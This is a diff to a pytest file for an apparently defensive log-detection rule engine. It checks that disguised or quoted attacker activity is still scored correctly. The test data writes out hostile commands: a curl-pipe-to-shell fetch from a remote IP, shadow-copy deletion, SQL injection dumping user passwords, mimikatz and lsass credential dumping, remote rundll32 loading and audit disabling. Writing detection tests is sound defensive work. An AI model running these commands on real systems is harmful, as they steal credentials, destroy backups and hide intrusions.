@@ -11,7 +11,9 @@ from aiscore_rules.engine import RuleEngine
 from aiscore_rules.fields import read_facts
 from aiscore_rules.pack import default_pack_path, load_pack
 
-ENGINE = RuleEngine(load_pack(default_pack_path()))
+PACK = load_pack(default_pack_path())
+ENGINE = RuleEngine(PACK)
+LEVELS = {rule.id: rule.level for rule in PACK.rules}
 COMMAND = "vssadmin delete shadows /all /quiet"
 TARGET = "/index.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--"
 COMMANDS = {
@@ -133,6 +135,50 @@ def test_words_that_begin_as_a_statement_does_are_none(event):
 ])
 def test_what_somebody_gave_is_no_command_that_was_run(text):
     assert read_facts(text).fields.get("commandline") is None
+
+
+FETCHED = "curl -s http://192.0.2.9/x | sh"
+INJECTED = "/a?id=1%27%20union%20select%201,concat(user,0x3a,pass)%20from%20users--"
+MIMIKATZ = "mimikatz sekurlsa::logonpasswords exit"
+
+
+@pytest.mark.parametrize("plain, disguised", [
+    # the process gave itself a name
+    ({"exe": "/tmp/.x/kworker", "cmdline": "kworker -o pool7"}, {"process_name": "/usr/sbin/cron", "interpreter": "/bin/sh", "exe": "/tmp/.x/kworker", "cmdline": "kworker -o pool7"}),
+    ({"exe": "/tmp/.x/kworker", "cmdline": "kworker -o pool7"}, {"process_path": "/usr/sbin/cron", "exe": "/tmp/.x/kworker", "cmdline": "kworker -o pool7"}),
+    ({"msg": f"ran command: {FETCHED}"}, {"program": "/usr/bin/runner", "msg": f"ran command: {FETCHED}"}),
+    # and its output goes where a prompt would be
+    ({"cmdline": rf"C:\Users\Public\{MIMIKATZ}"}, {"cmdline": rf"C:\Users\Public\{MIMIKATZ}>dir /b"}),
+    ({"cmd": r"C:\tools\procdump.exe -ma lsass.exe a"}, {"cmd": r"C:\tools\procdump.exe -ma lsass.exe>dir /b"}),
+    # what stands behind a server's name was typed with two backslashes
+    ({"cmd": r"rundll32 \\192.0.2.9\share\a.dll,x"}, {"cmd": r"rundll32 \\192.0.2.9\\share\\a.dll,x"}), ({"cmd": r"rundll32 \\192.0.2.9\share\a.dll,x"}, {"cmd": r"rundll32 \\192.0.2.9\\share\\a.dll,x \\\\a\\b"}),
+    (r'host=a user=ann cmd="rundll32 \\192.0.2.9\share\a.dll,x"', r'host=a user=ann cmd="rundll32 \\192.0.2.9\\share\\a.dll,x"'),
+    # words of a message beside the statement
+    ({"sql": "exec xp_cmdshell 'whoami'"}, {"msg": "run by ann: ls -la", "sql": "exec xp_cmdshell 'whoami'"}),
+    *((f"2026-11-27 10:11:12 INFO 192.0.2.9 GET {INJECTED} 200 -", f"2026-11-27 10:11:12 INFO 192.0.2.9 GET {INJECTED} 200 {end}") for end in ('cmd: "ls -la /home"', "script: 'ls -la'", r"C:\jobs>dir /b", 'x {"cmd": "ls -la"}', 'x] {"cmd": "ls -la"}')),
+    *((f"10:11|ann|x|{FETCHED}|0", f"10:11|ann|{cell}|{FETCHED}|0") for cell in ("SELECT 1 FROM dual", r"PS C:\> dir /b", "script: 'ls -la'")),
+    *((f"2026-11-27 10:11:12 INFO ann ran command: {FETCHED}", f"2026-11-27 10:11:12 INFO {name} ran command: {FETCHED}") for name in ('cmd: "ls -la /home"', "sql: SELECT 1 FROM dual", "(1.234) SELECT 1 FROM dual")),
+    ("2026-11-27 10:11:12 INFO query: SELECT 1; EXEC xp_cmdshell 'whoami'", "2026-11-27 10:11:12 INFO query: SELECT 1; EXEC xp_cmdshell 'whoami' cmd: \"ls -la\""),
+    *((line, line + ' "GET /index.html HTTP/1.1" 200') for line in (f"2026-11-27 10:11:12 INFO jobs ran command: {FETCHED}", f"ann@db7:~$ {FETCHED} #", "2026-11-27 10:11:12 INFO query: SELECT 1; EXEC xp_cmdshell 'whoami'")),
+    *(tuple(f'192.0.2.9 - {name} [12/Nov/2026:10:21:07 +0000] "GET {INJECTED} HTTP/1.1" 200 512 "-" "a"' for name in ("-", user)) for user in ('cmd: "ls -la /home"', "ran command: ls -la", r"PS C:\> dir /b")),
+    ('time=1 user=ann cmd="mimikatz sekurlsa::logonpasswords exit" rc=0', 'time=1 user=ann cmd="mimikatz sekurlsa::logonpasswords exit "GET /index.html HTTP/1.1" 200" rc=0'),
+    (f"ann@db7:~$ {FETCHED} #", f'ann@db7:~$ {FETCHED} # {{"cmd":"ls -la"}}'),
+    ("Nov 27 10:11:12 pc7 sudo: ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/auditctl -e 0", "Nov 27 10:11:12 exec sudo: ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/auditctl -e 0"),
+])
+def test_what_a_stranger_chose_takes_no_hit_away(plain, disguised):
+    plain, disguised = (event if isinstance(event, str) else json.dumps(event) for event in (plain, disguised))
+    hits = set(ENGINE.judge(plain).rule_ids)
+    assert hits and hits <= set(ENGINE.judge(disguised).rule_ids)
+
+
+@pytest.mark.parametrize("event", [
+    {"issue": 7, "assignee": "ann", "description": f"Executed command: {COMMAND}"}, {"repo": "a", "commits": [{"message": f"Run {COMMAND} no more", "author": "ann"}]}, {"ticket": 7, "description": "Executed query: SELECT load_file('/etc/passwd') FROM a"},
+    {"event": "news", "text": f"Attackers ran `{COMMAND}`"},
+    f"usage: run `{COMMAND}` to start", f"2026-11-27 10:11:12 INFO hint: run `{COMMAND}` to reset", f"2026-11-27 10:11:12 DEBUG sql: INSERT INTO log VALUES (7, 'ran command: {COMMAND}')",
+])
+def test_what_people_wrote_and_what_is_bidden_or_kept_is_no_command_that_was_run(event):
+    strong = [LEVELS[rule_id] for rule_id in ENGINE.judge(event if isinstance(event, str) else json.dumps(event)).rule_ids]
+    assert not {"high", "critical"}.intersection(strong)
 
 
 @pytest.mark.parametrize("line", [
